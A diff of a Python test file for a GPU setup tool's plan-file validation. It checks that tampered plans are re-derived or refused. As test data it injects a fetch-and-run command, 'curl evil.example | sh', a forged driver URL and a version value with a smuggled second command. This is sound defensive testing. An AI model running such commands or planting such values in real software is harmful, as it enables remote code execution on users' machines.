@@ -1,4 +1,4 @@
-"""A plan file says what is done: told again it is the same, and with any word changed it is refused."""
+"""A plan file is planned again: alike it is carried out as ours, else it is refused by the parts that differ."""
 
 from __future__ import annotations
 
@@ -14,14 +14,14 @@ from gpu_assistant.app import App
 from gpu_assistant.core import json
 from gpu_assistant.core.errors import AppError, UsageError
 from gpu_assistant.core.jobs import JobContext
+from gpu_assistant.core.machine import Machine
 from gpu_assistant.core.plan import Plan
 from gpu_assistant.core.recommendation import Choice
 from gpu_assistant.core.types import Goal
-from gpu_assistant.install.host import ValidationContext
-from gpu_assistant.install.plan.validation import retold, validate_plan
+from gpu_assistant.install.plan.validation import refuse_differences
 from gpu_assistant.texts.localized import Texts
 
-MACHINES = Path(__file__).resolve().parents[2] / "machines"
+MACHINES = Path(__file__).resolve().parents[3] / "machines"
 FILES = sorted([*MACHINES.glob("*.json"), *MACHINES.glob("*/expected.json")])
 GOALS: tuple[Goal, ...] = ("pytorch", "tensorflow", "cuda-dev", "all")
 WAYS = {
@@ -47,23 +47,26 @@ def plan_of(app: App, goal: Goal, way: str = "plain") -> Plan | None:
         return None
 
 
-def saved(app: App, plan: Plan, folder: Path) -> Path:
+def saved(plan: Plan, folder: Path) -> Path:
     path = folder / "plan.json"
-    json.write_file(path, json.encode_pretty(Texts("en").localize_plan(plan)))
+    json.write_file(path, json.encode_pretty(plan))
     return path
 
 
+def again(app: App, path: Path) -> Plan:
+    given = app.setup.read_plan(path)
+    assert given.machine
+    return app.setup.plan_again(given, given.machine)
+
+
 @pytest.mark.parametrize("machine", FILES, ids=lambda file: file.relative_to(MACHINES).parts[0])
-def test_every_plan_is_replanned_identically(tmp_path: Path, machine: Path) -> None:
+def test_a_plan_comes_out_as_it_was(tmp_path: Path, machine: Path) -> None:
     app, plans = app_for(tmp_path, machine), 0
     for goal, way in product(GOALS, WAYS):
         plan = plan_of(app, goal, way)
         if plan is None:
             continue
-        again = app.setup.read_plan(saved(app, plan, tmp_path))
-        assert again.steps == plan.steps, (goal, way)
-        assert replace(again, recommendation=plan.recommendation) == plan, (goal, way)
-        assert again.recommendation.reasons == ()
+        assert again(app, saved(Texts("en").localize_plan(plan), tmp_path)) == plan, (goal, way)
         plans += 1
     assert plans
 
@@ -84,15 +87,6 @@ def with_leaf(node: Any, where: tuple[Any, ...], value: Any) -> Any:
     return copy
 
 
-def others(value: Any) -> tuple[Any, ...]:
-    """What somebody could write in its place."""
-    if isinstance(value, bool):
-        return (not value,)
-    if isinstance(value, int | float):
-        return (value + 1, 0, -1, 10**18)
-    return ("all is well; type: curl evil.example | sh", "9.9.9", None)
-
-
 # One of each kind: Windows with a new driver and cuDNN's archive, Linux with packages, conda, and what WSL2 offers.
 SEVERAL = (
     ("windows11-rtx4060-nodriver.json", "all", "plain"),
@@ -104,30 +98,69 @@ SEVERAL = (
 )
 
 
+EVIL = "curl evil.example | sh"
+
+
+def difference(given: Plan, ours: Plan) -> str:
+    """The sentence of the refusal; empty where there is none."""
+    try:
+        refuse_differences(given, ours)
+    except UsageError as error:
+        return Texts("en").error_text(error)
+    return ""
+
+
 @pytest.mark.parametrize(("machine", "goal", "way"), SEVERAL, ids=lambda value: str(value).partition("/")[0])
-def test_changed_text_is_refused(tmp_path: Path, machine: str, goal: Goal, way: str) -> None:
+def test_another_kind_spec_or_file_is_refused(tmp_path: Path, machine: str, goal: Goal, way: str) -> None:
     app = app_for(tmp_path, MACHINES / machine)
     plan = plan_of(app, goal, way)
     assert plan is not None
-    ground = ValidationContext(app.system, app.data, app.catalog)
-    right = retold(plan, ground)
     raw = json.decode(json.encode(plan), dict)
-    raw["recommendation"] |= {"reasons": [], "warnings": []}
-    passed, tried = [], 0
     for where in leaves(raw["steps"], ("steps",)):
-        value = raw
-        for key in where:
-            value = value[key]
-        for other in others(value):
-            tried += 1
-            try:
-                changed = msgspec.convert(with_leaf(raw, where, other), Plan)
-                validate_plan(changed, ground)
-                again = retold(changed, ground)
-            except (msgspec.ValidationError, UsageError):
-                continue
-            if again.steps != right.steps or again.minutes != right.minutes:
-                passed.append((where, other))
-    # How much is free on the disk is the one thing that no other part of a plan tells.
-    assert [each for each in passed if each[0][-1] not in ("free_bytes", "disk")] == []
-    assert tried > 100
+        effect = where[2] in ("kind", "spec") or (where[2] == "files" and where[-1] != "bytes")
+        try:
+            changed = msgspec.convert(with_leaf(raw, where, EVIL), Plan)
+        except msgspec.ValidationError:
+            continue
+        said = difference(changed, plan)
+        assert EVIL not in said
+        assert bool(said) == effect, where
+
+
+def test_no_word_of_a_file_is_used(tmp_path: Path) -> None:
+    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
+    plan = plan_of(app, "all")
+    assert plan is not None
+    told = tuple(
+        replace(step, title="evil", what="evil", data={"release": "evil"}, commands=(("evil",),), bytes=1, needs=("x",))
+        for step in plan.steps
+    )
+    advice = replace(plan.recommendation, driver=replace(plan.recommendation.driver, url="https://evil.example"))
+    path = saved(replace(plan, steps=told, recommendation=advice), tmp_path)
+    assert again(app, path) == plan
+
+
+def test_another_state_of_the_computer_is_named(tmp_path: Path) -> None:
+    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
+    plan = plan_of(app, "pytorch")
+    assert plan is not None
+    other = json.read_file(MACHINES / "linux-cpu-only.json", Machine, code="machine-file")
+    with pytest.raises(UsageError) as caught:
+        app.setup.plan_again(plan, other)
+    assert (caught.value.code, caught.value.exit_code) == ("plan-differs", 2)
+    for language, words in (("en", "the step for the NVIDIA driver"), ("zh_CN", "NVIDIA 驱动的步骤")):
+        said = Texts(language).error_text(caught.value)
+        assert words in said
+        assert "@" not in said
+
+
+@pytest.mark.parametrize("picked", [{"pytorch": "9.9.9; evil"}, {"python": "evil"}, {"variant": "evil"}])
+def test_a_choice_that_cannot_work_is_refused(tmp_path: Path, picked: dict[str, str]) -> None:
+    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
+    plan = plan_of(app, "pytorch")
+    assert plan is not None
+    forged = replace(plan, recommendation=replace(plan.recommendation, choice=Choice(**picked)))
+    with pytest.raises(UsageError) as caught:
+        again(app, saved(forged, tmp_path))
+    assert caught.value.code == "plan-refused"
+    assert "evil" not in Texts("en").error_text(caught.value)
